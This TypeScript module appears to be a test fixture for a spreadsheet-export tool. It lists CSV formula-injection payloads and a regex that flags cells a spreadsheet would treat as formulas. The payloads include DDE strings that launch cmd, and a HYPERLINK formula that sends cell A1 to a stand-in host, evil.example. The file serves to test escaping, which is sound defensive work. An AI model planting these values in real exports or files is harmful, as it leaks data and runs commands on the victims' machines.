/**
 * Values a department file (or a form visitor) can plant: each is a formula when a spreadsheet opens the export.
 * Every CSV Daicho writes must hand them back as text: a leading ' inside a quoted cell (OWASP, CSV injection).
 */
export const FORMULA_PAYLOADS = {
  hyperlink: '=HYPERLINK("https://evil.example/?"&A1,"詳細はこちら")',
  plus: "+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  tab: '\t=1+1',
  cr: '\r=1+1',
  fullWidth: '＝HYPERLINK("https://evil.example/")',
};

/** A cell a spreadsheet would read as a formula (what the exports must never contain). */
export const FORMULA_START = /^(?:[\t\r\n]|\s*[=+\-@＝＋－＠])/u;
